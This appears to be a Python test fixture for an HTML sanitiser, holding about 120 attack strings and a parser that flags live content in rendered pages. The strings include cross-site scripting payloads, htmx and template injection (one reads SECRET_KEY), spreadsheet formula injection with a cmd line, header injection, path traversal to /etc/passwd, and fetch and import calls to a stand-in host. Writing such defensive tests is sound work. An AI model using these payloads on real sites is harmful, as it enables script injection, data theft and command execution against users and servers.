"""120 texts that would run, load or lead somewhere, were any of them taken for more than a text."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

CANARY = "canary.invalid"
HERE = f"//{CANARY}"
RUNS = ("alert(1)", f"fetch('{HERE}')", f"import('{HERE}')")
FORMS = (
    *("<script>{run}</script>", "</script><script>{run}</script>", "<ScRiPt >{run}</sCriPt>"),
    *("<img src=x onerror={run}>", '"><img src=x onerror={run}>', "'><img src=x onerror={run}>"),
    *("<svg onload={run}>", "<svg/onload={run}//", "<svg><script>{run}</script></svg>"),
    *("<body onload={run}>", "<details open ontoggle={run}>", "<input autofocus onfocus={run}>"),
    *('" onmouseover="{run}" x="', "' onfocus='{run}' autofocus x='", "` onload=`{run}"),
    *("<a href='javascript:{run}'>x</a>", "javascript:{run}", "java\tscript:{run}"),
    *("<iframe srcdoc='<script>{run}</script>'>", "<iframe src='javascript:{run}'>"),
    *("<div hx-get='//canary.invalid' hx-trigger='load'>x</div>", "<p hx-on:load='{run}'>x</p>"),
    *("\" hx-get='//canary.invalid' hx-trigger='load' x=\"", "<b hx-vals='js:{{a:{run}}}'>x</b>"),
    *("{{{{ {run} }}}}", "{{% load x %}}{{{{ settings.SECRET_KEY }}}}", "${{{run}}}", "<%={run}%>"),
    *("]]><script>{run}</script>", "--><script>{run}</script>", "</title><script>{run}</script>"),
    *("</textarea><script>{run}</script>", "</style><script>{run}</script>", '\\"-{run}-\\"'),
)
LEADS = (
    *("<a href='//canary.invalid'>x</a>", '<a href="https://canary.invalid/">x</a>'),
    *(
        "<b>x</b><br><sup>y</sup>",
        "<img src='//canary.invalid/i.png'>",
        "<base href='//canary.invalid'>",
    ),
    *(
        "<link rel=stylesheet href=//canary.invalid/a.css>",
        "<style>@import'//canary.invalid'</style>",
    ),
    *("<meta http-equiv=refresh content='0;url=//canary.invalid'>", "![x](//canary.invalid/i.png)"),
    *("<form action='//canary.invalid'><button>x", "<object data='//canary.invalid'></object>"),
    *("<embed src='//canary.invalid'>", "<video src='//canary.invalid' autoplay>"),
    *("&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    *('=HYPERLINK("//canary.invalid")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1"),
    *("\u202egnp.exe", "\ufeff<script>alert(1)</script>", "\u2028alert(1)", "%3Cscript%3Ealert(1)"),
    *("x\r\nSet-Cookie: a=b", "x\r\nBcc: thief@canary.invalid", "..%2f..%2fetc%2fpasswd"),
)
TEXTS = tuple(dict.fromkeys([*LEADS, *(form.format(run=run) for form in FORMS for run in RUNS)]))
LINKS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
NEVER = {"iframe", "object", "embed", "base", "style", "video", "audio", "frame", "applet"}


class Alive(HTMLParser):
    """What of a page is alive and should not be."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_script = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """No tag of a kind that is never used, no handler, and no link but within this house."""
        given = {name: value or "" for name, value in attrs}
        bad = [name for name in given if name.startswith(("on", "hx-on", "data-hx-on", "srcdoc"))]
        bad += [name for name in given if name == "style" or CANARY in name]
        bad += [name for name in given if name.startswith("hx-") and leads_away(given[name])]
        bad += [name for name in LINKS & set(given) if leads_away(given[name])]
        if tag in NEVER or bad or (tag == "meta" and given.get("http-equiv", "") == "refresh"):
            self.found.append(self.get_starttag_text() or tag)
        self._in_script = tag == "script"
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append(self.get_starttag_text() or tag)

    def handle_endtag(self, tag: str) -> None:
        """A script ends."""
        self._in_script = False

    def handle_data(self, data: str) -> None:
        """No script stands in a page."""
        if self._in_script and data.strip():
            self.found.append(data)


def leads_away(link: str) -> bool:
    """Whether a link runs something, or leads to the host that nobody should ask."""
    plain = "".join(sign for sign in link if sign > " ").lower()
    if plain.startswith(("javascript:", "js:", "vbscript:", "data:text")):
        return True
    return (urlsplit(plain).hostname or "") == CANARY


def alive(page: str) -> list[str]:
    """What of a page is alive and should not be."""
    return Alive(page).found


def words(nth: int, room: int | None = None) -> str:
    """The text of that number, of those that fit."""
    fitting = [one for one in TEXTS if room is None or len(one) <= room]
    return fitting[nth % len(fitting)]
